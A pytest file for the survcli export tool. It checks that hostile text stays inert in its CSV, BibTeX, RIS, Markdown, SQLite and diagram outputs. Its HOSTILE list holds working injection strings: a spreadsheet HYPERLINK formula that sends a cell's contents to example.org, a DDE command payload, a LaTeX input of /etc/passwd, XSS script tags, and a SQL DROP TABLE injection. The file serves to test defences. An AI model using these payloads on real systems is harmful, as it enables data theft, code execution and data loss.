"""Hostile text comes through every form harmless and whole: any text by property, and a ledger that is full of it."""

import copy
import csv
import io
import json
import re
import sqlite3
import unicodedata

import pytest
import rispy
from conftest import SMALL
from hypothesis import given, settings
from hypothesis import strategies as st
from mdit_py_plugins.footnote import footnote_plugin
from reading import bare, cells, entries, markdown

from survcli.formats import bibtex, ris
from survcli.formats import csv as as_csv
from survcli.formats import markdown as as_markdown

ANYTHING = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@\t\r\n'\",;＝"))
TEXT = (
    st.text(
        st.characters(exclude_categories=["Cc", "Cf", "Cs", "Zl", "Zp", "Cn"])
        | st.sampled_from("\\{}$&#^_~%`'\"<>|*[]()!-+=.1 @,:/"),
        min_size=1,
    )
    .map(lambda text: unicodedata.normalize("NFC", re.sub(r"\s+", " ", text)).strip())
    .filter(bool)
)
"""What the ledger allows: one line, nothing unseen. White space is single, since Markdown and LaTeX make it so."""


@given(st.lists(st.lists(ANYTHING, min_size=2, max_size=2)))
def test_any_text_comes_back_from_csv(rows):
    text = as_csv.text(["a", "b"], rows)
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [[bare(cell) for cell in row] for row in read] == rows


@given(ANYTHING)
def test_no_cell_of_csv_begins_like_a_formula(text):
    (row,) = list(csv.reader(io.StringIO(as_csv.text(["a", "b"], [[text, ""]]), newline="")))[1:]
    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


@given(TEXT)
@settings(deadline=None)
def test_any_title_comes_back_from_bibtex(title):
    row = {"id": "key", "type": "webpage", "title": title, "language": "es", "URL": "https://example.org/"}
    other = {**row, "id": "other", "title": "Other"}
    found = entries(bibtex.entry(row) + bibtex.entry(other))
    assert {key: entry["title"] for key, entry in found.items()} == {"key": title.replace("ˆ", "^"), "other": "Other"}


@given(TEXT)
def test_any_title_is_balanced_for_bibtex_which_counts_braces_even_after_a_backslash(title):
    shown, depth = bibtex.escape(title), 0
    for char in shown:
        depth += {"{": 1, "}": -1}.get(char, 0)
        assert depth >= 0
    assert depth == 0


@given(TEXT)
def test_any_text_comes_back_from_ris(text):
    row = {"id": "key", "type": "webpage", "title": text, "language": "es", "container-title": text}
    (found,) = rispy.loads(ris.record(row, ""))
    assert found["title"] == text
    assert found["secondary_title"] == text


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r", "\x0b", "\x85", "\u2028"])
def test_a_line_break_cannot_forge_a_tag_of_ris(end):
    row = {"id": "key", "type": "webpage", "title": f"a{end}ER  - {end}TY  - JOUR", "language": "es"}
    assert len(rispy.loads(ris.record(row, ""))) == 1


@given(TEXT)
def test_any_text_is_shown_by_markdown_as_it_is(text):
    assert markdown(f"{as_markdown.escape(text)}\n") == [("p", text)]


@given(TEXT)
def test_any_text_is_shown_in_a_heading_of_markdown_as_it_is(text):
    assert markdown(f"## {as_markdown.escape(text)}\n") == [("h2", text)]


@given(TEXT, TEXT)
def test_any_text_stays_in_its_cell_of_a_markdown_table(one, other):
    assert markdown(as_markdown.table(["a", "b"], [[one, other]])) == [("th", "a"), ("th", "b"), ("td", one), ("td", other)]


HOSTILE = [
    '=HYPERLINK("http://example.org/?x="&A1,"open")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\\input{/etc/passwd} $x^2$ 100% {a} #1 a_b ~c ^d & \\",
    "}, title = {x}} @comment{",
    "<script>alert(1)</script><img src=x onerror=alert(1)> &amp; &lt;",
    "**bold** _it_ `code` [x](javascript:alert(1)) | cell | ![i](http://example.org/i.png)",
    "1. one",
    "- item --- === # heading",
    "'; DROP TABLE records; -- \"quoted\" 'single' ``quotes'' a--b",
    "TY  - JOUR",
    "%%{init: {}}%% end",
    "＝1+1",
    "'=already",
    "]]> --> */ {{x}} {% x %} ${x}",
]


@pytest.fixture(scope="module")
def hostile():
    """The small ledger with hostile text wherever text is free. It is valid: validation judges shape, not taste."""
    data = json.loads(SMALL.read_text("utf-8"))
    data = copy.deepcopy(data)
    texts = iter(HOSTILE * 1000)
    for row in data["organizations"]:
        row["name"] = f"{next(texts)} {row['id']}"
        row["aliases"] = [f"{next(texts)} {row['id']} alias" for _ in row["aliases"]]
    for row in data["products"]:
        row["name"] = f"{next(texts)} {row['id']}"
    for row in data["sources"]:
        row["title"] = next(texts)
        for name in ("container-title", "publisher", "number"):
            if name in row:
                row[name] = next(texts)
        row["author"] = [{"literal": next(texts)}, {"family": next(texts), "given": next(texts)}]
    for row in data["records"]:
        for name in ("title", "summary"):
            row[name] = {lang: f"{next(texts)} ({lang})" for lang in ("en", "es")}
        if row.get("described_as"):
            row["described_as"] = next(texts)
        for number in row["identifiers"]:
            number["value"] = next(texts)
    data["notice"] = {"en": " ".join(HOSTILE), "es": " ".join(HOSTILE)}
    return data


@pytest.fixture
def export(run, tmp_path, hostile):
    """Export the hostile ledger."""
    file = tmp_path / "hostile.json"
    file.write_text(json.dumps(hostile), "utf-8")

    def write(name):
        result = run("export", f"{tmp_path}/{name}", "--data", str(file))
        assert result.status == 0, result.err
        return tmp_path / name

    return write


def titles(hostile):
    return {row["id"]: (row["title"]["en"], row["title"]["es"]) for row in hostile["records"]}


def test_hostile_json(export, hostile):
    records = json.loads(export("x.json").read_text("utf-8"))["records"]
    assert {row["id"]: tuple(row["title"].values()) for row in records} == titles(hostile)


def test_hostile_ndjson(export, hostile):
    records = [json.loads(line) for line in export("x.ndjson").read_text("utf-8").split("\n")[:-1]]
    assert {row["id"]: tuple(row["title"].values()) for row in records} == titles(hostile)


def test_hostile_csv(export, hostile):
    rows = cells(export("x.csv").read_bytes().decode())
    assert {row["id"]: (bare(row["title_en"]), bare(row["title_es"])) for row in rows} == titles(hostile)
    assert not [cell for row in rows for cell in row.values() if cell[:1] in set("=+-@＝")]


def test_hostile_markdown(export, hostile):
    blocks = markdown(export("x.md").read_text("utf-8"), footnote_plugin)
    assert [text for tag, text in blocks if tag == "h2"] == [row["title"]["en"] for row in hostile["records"]]
    assert blocks[-1] == ("p", hostile["notice"]["en"]) or ("p", hostile["notice"]["en"]) in blocks


def test_hostile_bibtex(export, hostile):
    found = entries(export("x.bib").read_text("utf-8"))
    cited = {cite["source"] for row in hostile["records"] for cite in row["citations"]}
    assert {key: entry["title"] for key, entry in found.items()} == {
        row["id"]: row["title"] for row in hostile["sources"] if row["id"] in cited
    }


def test_hostile_ris(export, hostile):
    found = rispy.loads(export("x.ris").read_bytes().decode())
    cited = {cite["source"] for row in hostile["records"] for cite in row["citations"]}
    assert {row["id"]: row.get("title") for row in found} == {
        row["id"]: row["title"] for row in hostile["sources"] if row["id"] in cited
    }


def test_hostile_csl(export, hostile):
    found = {row["id"]: row for row in json.loads(export("x.csl.json").read_text("utf-8"))}
    assert all(found[row["id"]]["author"] == row["author"] for row in hostile["sources"] if row["id"] in found)


def test_hostile_sqlite(export, hostile):
    database = sqlite3.connect(export("x.sqlite"))
    assert {key: (en, es) for key, en, es in database.execute("SELECT id, title_en, title_es FROM records")} == titles(hostile)
    names = {row["id"]: row["name"] for row in hostile["organizations"]}
    assert all(names[key] == name for key, name in database.execute("SELECT id, name FROM organizations"))
    database.close()


def test_hostile_data_package(export, hostile):
    rows = cells((export("folder/") / "records.csv").read_bytes().decode())
    assert {row["id"]: (bare(row["title_en"]), bare(row["title_es"])) for row in rows} == titles(hostile)


def test_hostile_ftm(export, hostile):
    rows = [json.loads(line) for line in export("x.ftm.json").read_text("utf-8").split("\n")[:-1]]
    named = {row["id"]: row["properties"]["name"] for row in rows if row["schema"] in ("Contract", "Event")}
    assert {key: tuple(value) for key, value in named.items()} == {
        f"survcli-{key.lower()}": value for key, value in titles(hostile).items()
    }


@pytest.mark.parametrize("form", ["mermaid", "dot"])
def test_hostile_diagrams_have_no_line_more_and_no_quote_that_closes_early(run, tmp_path, hostile, form):
    file = tmp_path / "hostile.json"
    file.write_text(json.dumps(hostile), "utf-8")
    tame, wild = run("network", "-f", form, "--data", str(SMALL)).out, run("network", "-f", form, "--data", str(file)).out
    assert len(tame.splitlines()) == len(wild.splitlines())
    for line in wild.splitlines()[1:]:
        assert len(re.findall(r'(?<!\\)(?:\\\\)*"', line)) in (0, 2, 4)
